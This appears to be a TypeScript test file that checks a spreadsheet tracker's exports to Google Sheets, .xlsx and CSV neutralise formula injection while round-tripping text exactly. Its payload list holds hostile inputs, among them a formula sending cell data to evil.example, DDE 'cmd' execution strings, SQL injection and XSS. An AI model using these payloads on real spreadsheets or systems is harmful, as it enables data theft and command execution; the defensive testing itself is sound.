/** What somebody could hide in a text: it comes back byte for byte, and nowhere as a formula. */
import { readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { read as readBook } from "@e965/xlsx";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { writeCsv } from "../../../apps-script/cli/src/export/write-csv.ts";
import { writeXlsx } from "../../../apps-script/cli/src/export/write-xlsx.ts";
import { textOfCell, safeCell } from "../../../shared/src/exchange/safe-cell.ts";
import { readSeparatedText } from "../../../shared/src/exchange/separated-text.ts";
import { readWorkbookFile } from "../../../apps-script/cli/src/files/read-workbook-file.ts";
import { cleanLine } from "../../../shared/src/evidence-log/clean-text.ts";
import { type Cell, type Sheet, type Workbook } from "../../../shared/src/tracker/workbook.ts";
import { captured, corrected, decided, declared, tagged } from "../../shared/evidence-log/log-events.ts";
import {
  append,
  expectDone,
  madeSpreadsheet,
  readingOf,
  workbookIn,
} from "../../shared/sheets-api/made-spreadsheet.ts";
import { run, temporaryFolder } from "../../support/built-cli.ts";
import { sheetsServerInTest } from "../../support/sheets-server.ts";

const payloads = [
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '=HYPERLINK("https://evil.example","click")',
  "=1+1",
  "==1",
  "+44 20 7946 0000",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "＝1+1",
  "'=1+1",
  "''quoted''",
  '"; DROP TABLE learners; --',
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "]]><!--&amp;&#61;1+1;%3D1",
  "_x003D_1+1",
  "{{7*7}}${7*7}",
  "1.10",
  "001",
  "1/2",
  "TRUE",
  "#REF!",
  "a,b;c|d",
  '"quoted", and "more',
  "😀 Zoë ﷽ \u202etxet",
];

describe("texts in an event's every field", () => {
  const events = payloads.flatMap((text, index) => {
    const line = cleanLine(text, 200);
    const item = captured(index * 10 + 1, {
      author: line,
      learner: line,
      content: {
        label: cleanLine(text, 40),
        title: line,
        system: cleanLine(text, 100),
        location: `${line}\n${line}`,
        identity: line,
        method: cleanLine(`own ${text}`, 60),
        witness: { name: line, role: line },
        quote: { exact: line, before: line, after: line, position: null },
        language: cleanLine(text, 40),
        adviser: line,
      },
    });
    return [
      item,
      tagged(index * 10 + 2, item.id, { author: line, learner: line }),
      corrected(
        index * 10 + 3,
        item.id,
        { what: "captured", evidence: item.evidence },
        { author: line, learner: line, note: line },
      ),
      decided(index * 10 + 4, "met", { author: line, learner: line, note: line }),
      declared(index * 10 + 5, { author: line, learner: line, note: line }),
    ];
  });

  it("are no formula in Google Sheets, and the same events come back", () => {
    const tracker = madeSpreadsheet();
    append(tracker, events);
    const formulas = tracker.service
      .book(tracker.id)
      ?.sheets.flatMap(({ title, rows }) => (title === "Coverage" ? [] : rows.flat()))
      .filter((cell) => cell !== null && cell.formula !== null);
    expect(formulas).toEqual([]);
    const state = readingOf(tracker).state;
    const read = new Map(state?.learners.flatMap(({ items }) => items).map((one) => [one.event, one]));
    for (const event of events) {
      if (event.kind !== "captured") continue;
      expect(read.get(event.id)).toMatchObject({ ...event.evidence, by: event.author });
    }
    expect(state?.fates.every(({ fate }) => fate === "counts" || fate === "replaced")).toBe(true);
  });

  it("come back from .xlsx as they were, and no cell of the file is a formula", async () => {
    const tracker = madeSpreadsheet();
    append(tracker, events);
    const workbook = workbookIn(tracker);
    const path = join(temporaryFolder(), "out.xlsx");
    const bytes = writeXlsx(withoutUncalculated(workbook));
    writeFileSync(path, bytes);
    const cells = Object.values(readBook(bytes, { cellFormula: true }).Sheets).flatMap((sheet) =>
      Object.entries(sheet).flatMap(([place, cell]) => (place.startsWith("!") ? [] : [cell])),
    );
    expect(cells.length).toBeGreaterThan(1_000);
    expect(cells.filter((cell) => cell.f !== undefined)).toEqual([]);
    const read = await readWorkbookFile(path);
    expect(read.ok && read.workbook.sheets).toEqual(withoutUncalculated(workbook).sheets);
  });

  it("come back from CSV as they were, and no cell of the file begins as a formula", async () => {
    const server = await sheetsServerInTest();
    const tracker = { ...madeSpreadsheet() };
    append(tracker, events);
    const book = tracker.service.book(tracker.id);
    if (book === undefined) throw new Error("There is no book.");
    server.service.put(book);
    const out = join(temporaryFolder(), "csv");
    expect(await run(["export", tracker.id, "--to", "csv", "--out", out], { env: server.env })).toMatchObject(
      {
        code: 0,
        err: "",
      },
    );
    const expected = new Map(workbookIn(tracker).sheets.map((sheet) => [`${sheet.name}.csv`, sheet]));
    expect(readdirSync(out).sort()).toEqual([...expected.keys()].sort());
    for (const [name, sheet] of expected) {
      if (name === "Coverage.csv") continue;
      const read = await readWorkbookFile(join(out, name));
      expect(read.ok && read.workbook.sheets[0]?.rows).toEqual(sheet.rows);
    }
  });

  it("are refused by nobody on the way: the server took each request", () => {
    const tracker = madeSpreadsheet();
    const { status } = expectDone(tracker.service.ask("GET", `/v4/spreadsheets/${tracker.id}`));
    expect(status).toBe(200);
  });
});

describe("any text", () => {
  const cell = fc.oneof(
    fc.constantFrom(...payloads),
    fc.string({ unit: "grapheme", minLength: 1, maxLength: 30 }),
    fc
      .tuple(fc.constantFrom("=", "+", "-", "@", "'", "''", "\t", "＝"), fc.string())
      .map(([first, rest]) => first + rest),
  );
  const sheetOf = (rows: readonly (readonly Cell[])[]): Sheet => ({
    name: "Tab",
    rows,
    merges: [],
    hidden: false,
    notes: [],
  });

  it("is made safe, and made plain again", () => {
    fc.assert(
      fc.property(cell, (text) => {
        expect(textOfCell(safeCell(text))).toBe(text);
        expect(safeCell(text)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      }),
    );
  });

  it("begins no cell of a CSV file as a formula would, whatever the program's separator is", () => {
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 4 }), (rows) => {
        const text = [...writeCsv(sheetOf(rows))].join("").replace(/^\uFEFF/, "");
        readSeparatedText(text, ",", (fields) => {
          for (const field of fields) expect(field).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
          return true;
        });
        // Every text stands in quotation marks, so that no other separator can cut one open.
        expect(text).toMatch(/^(?:(?:"(?:[^"]|"")*")?(?:,|\r\n))*$/);
      }),
    );
  });
});

/** A formula that nobody has calculated has no text to compare. */
function withoutUncalculated({ sheets }: Workbook): Workbook {
  return {
    sheets: sheets.map((sheet) => {
      const rows = sheet.rows.map((row) =>
        row.map((cell) => (typeof cell === "object" && cell !== null ? null : cell)),
      );
      for (const row of rows) while (row.length > 0 && row[row.length - 1] === null) row.pop();
      while (rows.length > 0 && rows[rows.length - 1]?.length === 0) rows.pop();
      return { ...sheet, rows };
    }),
  };
}
